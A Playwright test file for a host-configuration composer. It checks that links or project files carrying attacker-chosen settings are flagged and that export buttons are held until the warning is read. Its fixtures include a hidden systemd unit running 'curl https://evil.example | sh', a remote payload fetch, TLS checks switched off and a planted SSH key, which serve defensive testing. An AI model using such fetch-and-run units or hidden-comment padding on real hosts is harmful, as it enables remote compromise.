import AxeBuilder from '@axe-core/playwright'
import type { Page } from '@playwright/test'
import type { Values } from '../../src/cookbook/input.ts'
import { encodeAddLink } from '../../src/cookbook/share/add-link.ts'
import type { PublicValues } from '../../src/cookbook/share/public-values.ts'
import { composePage, openCompose } from '../support/compose-page.ts'
import { expect, test } from '../support/watched-page.ts'

const KEY =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKbPb0wI9sTYKnU4f7G9TKd3t/7mZfBya2FdjmcW2cYZ mallory'
const FINGERPRINT = 'SHA256:zBKqqM52079HHa3IGOJeh+Pf1nZ1ixQe1U/aQvBWfpA mallory'

/** A link with answers that somebody else chose. */
const linkWith = (values: Values) =>
  encodeAddLink('docker-at-boot', values as unknown as PublicValues)

/** A project file with a unit that nobody sees who looks at the top of the text. */
const text = `variant: flatcar
version: 1.1.0
${'# Nothing but comments here, line after line.\n'.repeat(300)}
systemd:
  units:
    - name: evil.service
      enabled: true
      contents: |
        [Service]
        ExecStart=/bin/sh -c "curl https://evil.example | sh"
storage:
  files:
    - path: /opt/payload
      contents:
        source: https://evil.example/payload
`
const projectFile = {
  name: 'host.kindling.json',
  mimeType: 'application/json',
  buffer: Buffer.from(
    JSON.stringify({
      ...{ kindling: 1, engine: '0.1.0', spec: 'flatcar 1.0.0', recipes: {} },
      ...{ values: {}, base: text },
    }),
  ),
}

const notice = (page: Page) => page.getByRole('region', { name: /^This host came with/ })
const read = (page: Page) => page.getByRole('button', { name: 'I have read this' })

/** Every button that copies or downloads, on all panes and in the folds. */
async function takingButtons(page: Page) {
  const buttons = page
    .locator('.host-tools, .results')
    .getByRole('button', { name: /^(Copy|Download|Save)/, includeHidden: true })
  expect(await buttons.count()).toBeGreaterThan(8)
  return buttons
}

async function expectHeld(page: Page, held: boolean): Promise<void> {
  const buttons = await takingButtons(page)
  for (const button of await buttons.all()) {
    const name = (await button.getAttribute('aria-label')) ?? (await button.textContent())
    await expect(button, name ?? '').toBeEnabled({ enabled: !held })
  }
}

const attacks: readonly { title: string; values: Values; label: string; words: string }[] = [
  {
    title: 'another OVA',
    values: { 'deploy.ova': '/tmp/evil.ova' },
    label: 'OVA file',
    words: '/tmp/evil.ova',
  },
  {
    title: 'another release',
    values: { 'deploy.release': '1.2.3' },
    label: 'Release',
    words: '1.2.3',
  },
  {
    title: 'another config address',
    values: { 'deploy.encoding': 'url', 'deploy.configUrl': 'https://evil.example/x.ign' },
    label: 'Address of the .ign file',
    words: 'https://evil.example/x.ign',
  },
  {
    title: 'another server',
    values: { 'deploy.host': 'evil.example' },
    label: 'Server',
    words: 'evil.example',
  },
  {
    title: 'the check of the certificate switched off',
    values: { 'deploy.target': 'govc', 'deploy.tls': 'nothing' },
    label: 'Certificate of the server',
    words: 'Do not check it',
  },
  {
    title: 'overwriting switched on',
    values: { 'deploy.overwrite': 'true' },
    label: 'Replace a machine of the same name',
    words: 'On',
  },
  { title: 'an SSH key', values: { keys: KEY }, label: 'SSH public keys', words: FINGERPRINT },
]

for (const { title, values, label, words } of attacks) {
  test(`a link with ${title} says so, and holds what it made until that is read`, async ({
    page,
    watch,
  }) => {
    await openCompose(page, watch, linkWith({ hostname: 'web-1', ...values }))
    const row = notice(page).locator('.arrival-row').filter({ hasText: label })
    await expect(row).toContainText(words)
    await expect(row).toHaveAttribute('data-guarded', 'true')
    await expect(notice(page)).toContainText('Host name')
    const [above, below] = await Promise.all([
      notice(page).boundingBox(),
      page.getByRole('group', { name: 'Results' }).boundingBox(),
    ])
    expect((above?.y ?? 0) + (above?.height ?? 0)).toBeLessThan(below?.y ?? 0)
    await expectHeld(page, true)
    await read(page).click()
    await expectHeld(page, false)
    await expect(page.getByText(/you have read what is in it/)).toBeVisible()
  })
}

test('a project file with a unit under 300 comment lines lists it, and is held', async ({
  page,
  watch,
}) => {
  await openCompose(page, watch)
  await page.locator('input[type=file][accept=".json"]').setInputFiles(projectFile)
  await expect(notice(page)).toContainText('This host came with a project file')
  for (const words of [
    'evil.service, enabled',
    'ExecStart=/bin/sh -c "curl https://evil.example | sh"',
    'https://evil.example/payload, without a hash',
  ]) {
    await expect(notice(page)).toContainText(words)
  }
  await expectHeld(page, true)

  // a comment of the reader's own makes nothing of it theirs
  const { ownText } = composePage(page)
  await ownText.fill(`# looks fine\n${text}`)
  await expectHeld(page, true)
  await ownText.fill('variant: flatcar\nversion: 1.1.0\n')
  await expect(notice(page)).toHaveCount(0)
  await expectHeld(page, false)
})

test('a link of harmless answers is told, and nothing waits', async ({ page, watch }) => {
  await openCompose(page, watch, linkWith({ hostname: 'web-1', 'deploy.cpus': '4' }))
  await expect(notice(page)).toContainText('web-1')
  await expect(notice(page)).toContainText('Virtual CPUs')
  await expectHeld(page, false)
})

test('an answer that the reader changes is theirs, and comes back with undo', async ({
  page,
  watch,
}) => {
  await openCompose(page, watch, linkWith({ 'deploy.overwrite': 'true' }))
  await expectHeld(page, true)
  const { field } = composePage(page)
  await field('Replace a machine of the same name').uncheck()
  await expect(notice(page)).toHaveCount(0)
  await expectHeld(page, false)
  await page.getByRole('button', { name: 'Undo' }).click()
  await expect(notice(page)).toBeVisible()
  await expectHeld(page, true)
  await read(page).click()
  await page.getByRole('button', { name: 'Redo' }).click()
  await page.getByRole('button', { name: 'Undo' }).click()
  await expectHeld(page, false)
})

test('a key that the reader adds makes the one from the link no other', async ({ page, watch }) => {
  await openCompose(page, watch, linkWith({ keys: KEY }))
  const { field } = composePage(page)
  await field('SSH public keys').fill(`${KEY.replace('IKbP', 'INbP')}\n${KEY}`)
  await expect(notice(page)).toContainText(FINGERPRINT)
  await expectHeld(page, true)
})

test('a reload keeps what was read, going back and another link do not', async ({ page }) => {
  const link = linkWith({ hostname: 'web-1', 'deploy.overwrite': 'true' })
  await openCompose(page, undefined, link)
  const { fragment, field } = composePage(page)
  await fragment()
  await page.reload()
  await expect(notice(page)).toBeVisible()
  await read(page).click()
  await expect(page.getByText(/you have read what is in it/)).toBeVisible()
  await expect.poll(() => page.evaluate(() => JSON.stringify(history.state))).toContain('true')
  await page.reload()
  await expect(field('Host name')).toHaveValue('web-1')
  await expect(notice(page)).toHaveCount(0)
  await expectHeld(page, false)

  const other = linkWith({ hostname: 'web-2', 'deploy.overwrite': 'true' })
  await page.evaluate((hash) => {
    location.hash = hash
  }, other)
  await expect(field('Host name')).toHaveValue('web-2')
  await expect(notice(page)).toBeVisible()
  await expectHeld(page, true)
  await page.goBack()
  await expect(field('Host name')).toHaveValue('web-1')
  await expectHeld(page, false)
  await page.goForward()
  await expect(field('Host name')).toHaveValue('web-2')
  await expectHeld(page, true)
})

test('an address in the place of the OVA is not even taken from a link', async ({
  page,
  watch,
}) => {
  await openCompose(page, watch, linkWith({ 'deploy.ova': 'https://evil.example/a.ova' }))
  await expect(composePage(page).chosen).toHaveText(['Docker at boot'])
  await expect(notice(page)).toHaveCount(0)
  expect(await page.locator('body').textContent()).not.toContain('evil.example')
})

test('what a recipe’s page keeps to itself is named there and on the page it leads to', async ({
  page,
}) => {
  await page.goto('recipes/motd/')
  await expect(page.getByRole('group', { name: 'Your host' })).toBeEnabled()
  await page.getByLabel('Message').fill('the password is hunter2')
  await expect(page.getByText('1 answer is not in the link: Message.')).toBeVisible()
  await page.getByRole('link', { name: '+ Add to my host' }).click()
  await expect(page.getByRole('alert')).toContainText('1 answer is missing here')
  await expect(page.getByRole('alert')).toContainText('Message')
  await composePage(page).field('Message').fill('hunter2')
  await expect(page.getByText('1 answer is not in the link: Message.')).toBeVisible()
  expect(page.url()).not.toContain('hunter2')
})

for (const colorScheme of ['light', 'dark'] as const) {
  test(`what came along has no accessibility finding in ${colorScheme} colours`, async ({
    page,
    watch,
  }) => {
    await page.emulateMedia({ colorScheme })
    await openCompose(page, watch, linkWith({ keys: KEY, hostname: 'web-1' }))
    await page.locator('input[type=file][accept=".json"]').setInputFiles(projectFile)
    await expect(notice(page)).toContainText('project file')
    const { violations } = await new AxeBuilder({ page }).analyze()
    expect(violations.map(({ id, nodes }) => [id, ...nodes.map(({ html }) => html)])).toEqual([])
  })
}
